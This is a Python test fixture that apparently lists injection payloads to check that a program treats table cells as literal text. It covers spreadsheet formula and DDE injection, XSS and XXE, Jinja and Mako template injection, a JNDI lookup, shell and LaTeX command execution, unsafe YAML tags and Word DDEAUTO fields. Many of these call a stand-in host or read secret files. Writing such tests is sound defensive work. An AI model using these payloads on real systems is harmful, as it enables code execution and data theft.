"""Cells whose text means something to a program that reads it on the way, or at its end."""

from hostile.case import Cell


def cells(kind: str, literal: bool = True, column: str = "", **texts: str) -> tuple[Cell, ...]:
    """Cases of one kind, by name; of what matters in one column, with that."""
    return tuple(
        Cell(
            name=f"{kind}-{name.replace('_', '-')}",
            kind=kind,
            text=text,
            literal=literal,
            column=column,
        )
        for name, text in texts.items()
    )


# A spreadsheet would compute them, in a column of the comparison.
FORMULAS = cells(
    "formula",
    column="compared",
    hyperlink='=HYPERLINK("@URL@","click")',
    command="=cmd|' /C touch @RAN@'!A0",
    at="@SUM(1+1)*cmd|' /C touch @RAN@'!A0",
    plus="+cmd|' /C rm @KEPT@'!A0",
    minus="-2+3+cmd|' /C touch @RAN@'!A0",
    tab="\t=1+1",
    dde='=DDE("soffice","@SECRET@","A1")',
    webservice='=WEBSERVICE("@URL@")',
    import_xml='=IMPORTXML("@URL@","//a")',
    full_width="\uff1dcmd|' /C touch @RAN@'!A0",
    second_line="first\n=cmd|' /C touch @RAN@'!A0",
    behind_separator='",=1+1,"=2+2',
)
TYPST = cells(
    "typst",
    read='#read("@SECRET@")',
    include='#include "@SECRET@"',
    image='#image("@SECRET@")',
    package='#import "@preview/cetz:0.3.4": canvas',
    math="$ sum_(k=0)^n k $ #sys.inputs",
    eval='#eval("read(\\"@SECRET@\\")")',
    plugin='#plugin("@SECRET@") #panic("stop")',
    label="<main> @main #ref(<main>) // comment /* block",
    escape='\\u{23}read("@SECRET@") "] #read("@SECRET@")',
)
HTML = cells(
    "html",
    script="<script>fetch('@URL@')</script>",
    image="<img src=x onerror=\"fetch('@URL@')\">",
    frame='<iframe src="@URL@"></iframe>',
    svg="<svg onload=\"fetch('@URL@')\"><use href='@URL@'/></svg>",
    style_import='<style>@import "@URL@";</style>',
    refresh='<meta http-equiv="refresh" content="0;url=@URL@">',
    base='<base href="@URL@/">',
    stylesheet='<link rel="stylesheet" href="@URL@">',
    embed='<object data="@URL@"></object><embed src="@URL@">',
    form='<form action="@URL@"><input autofocus onfocus=alert(1)></form>',
    closing="</style></script></title></main></body></html><script>alert(1)</script>",
    comment="--><script>alert(1)</script><!--",
    attribute="\" onmouseover=\"alert(1)\" x='y' onload='alert(1)'",
    entities="&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x&#x3e;",
    character_data="]]><script>alert(1)</script><![CDATA[",
    template="<template><slot></slot></template><x-y is=z></x-y>",
    doctype='<!DOCTYPE x [<!ENTITY e SYSTEM "file://@SECRET@">]><x>&e;</x>',
    php="<?php readfile('@SECRET@'); system('touch @RAN@'); ?>",
)
MARKDOWN = cells(
    "markdown",
    literal=False,
    image="![pixel](@URL@)",
    image_file="![pixel](file://@SECRET@)",
    javascript="[click](javascript:fetch('@URL@'))",
    data="[click](data:text/html;base64,PHNjcmlwdD4=)",
    file="[click](file://@SECRET@)",
    address="<http://@HOST@/a> <file://@SECRET@> <javascript:alert(1)>",
    reference="[a][b]\n\n[b]: javascript:alert(1)\n[c]: @URL@",
    nested="[![x](@URL@)](vbscript:x)",
    relative="[a](//@HOST@/x) [b](../../../etc/passwd) [c](JaVaScRiPt:alert(1))",
    table="a | b\n--- | ---\n<img src=x> | ![x](@URL@)",
    fence="```{=html}\n<script>alert(1)</script>\n```\n~~~",
    front_matter="---\ntitle: x\nheader-includes: <script>alert(1)</script>\n---",
    footnote="[^1]\n\n[^1]: ![x](@URL@)\n\n# Heading\n\n> quote\n\n    code",
)
TEMPLATES = cells(
    "template",
    jinja="{{ cycler.__init__.__globals__.os.popen('touch @RAN@').read() }}",
    jinja_block="{% include '@SECRET@' %}{% import os %}{# x #}",
    mako="${__import__('os').system('touch @RAN@')}<% import os %><%include file='@SECRET@'/>",
    format="{0.__class__.__mro__} {title!r} {slug} {} {brief.__init__.__globals__}",
    percent="%(title)s %s %d %n %(__class__)s",
    shell_variable="$HOME ${HOSTILE_SECRET} $HOSTILE_SECRET %HOSTILE_SECRET%",
    literal_string="{open('@SECRET@').read()} {{open('@SECRET@').read()}}",
    erb="<%= `touch @RAN@` %> <%- File.read('@SECRET@') -%>",
    jndi="${jndi:ldap://@HOST@/x} ${env:HOSTILE_SECRET}",
)
CODE = cells(
    "code",
    call="__import__('os').system('touch @RAN@')",
    quote="\"; import os; os.system('touch @RAN@') #",
    quotes="'''\nimport os\nos.system('touch @RAN@')\n'''",
    magic="%run @SECRET@",
    cell_magic="%%bash\ntouch @RAN@",
    bang="!touch @RAN@",
    ipython="get_ipython().system('touch @RAN@')",
    continued="\\\nimport os; os.remove('@KEPT@')",
    notebook='{"cells": [{"cell_type": "code", "source": "!touch @RAN@"}], "nbformat": 4}',
)
SHELL = cells(
    "shell",
    substitution="$(touch @RAN@)",
    backquotes="`touch @RAN@`",
    sequence="; touch @RAN@ && rm @KEPT@ | cat @SECRET@ > @RAN@",
    options="--output=@RAN@ -o @RAN@ --engine=sh",
)
LATEX = cells(
    "latex",
    input="\\input{@SECRET@} \\include{@SECRET@}",
    write="\\immediate\\write18{touch @RAN@}",
    redefine="\\catcode`\\%=12 \\def\\x{\\openin0=@SECRET@ } \\end{document}",
)
YAML = cells(
    "yaml",
    python_tag='!!python/object/apply:os.system ["touch @RAN@"]',
    anchor="&a [*a, *a]",
    merge="<<: *defaults",
    document="---\n!!python/object/apply:os.system ['touch @RAN@']\n...",
    key="x\ndecision:\n  asked: Fund it\nwaive: {GO101: x}",
    include="!include @SECRET@ !ENV ${HOSTILE_SECRET}",
    block="|+\n  text\n> folded",
)
WORD = cells(
    "word",
    include_picture='{ INCLUDEPICTURE "@URL@" \\d }',
    dde='{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k touch @RAN@" }',
    include_text='{ INCLUDETEXT "@SECRET@" }',
    markup='</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> DDEAUTO x </w:instrText></w:r>',
    relationship='<Relationship Type="attachedTemplate" Target="@URL@" TargetMode="External"/>',
)
REFUSED = (
    Cell(name="cell-nul", kind="character", text="a\0b", fate="refused", said=("U+0000",)),
    Cell(name="cell-escape", kind="character", text="\x1b]0;x\x07a", fate="refused", said=("U+001B",)),
    Cell(name="cell-override", kind="character", text="a\u202eb", fate="refused", said=("U+202E",)),
    Cell(name="cell-long", kind="size", text="x" * 100_000, fate="refused", said=("at most 5000 characters",)),
)  # fmt: skip
CELLS: tuple[Cell, ...] = (
    *FORMULAS, *TYPST, *HTML, *MARKDOWN, *TEMPLATES, *CODE, *SHELL, *LATEX, *YAML, *WORD, *REFUSED,
)  # fmt: skip
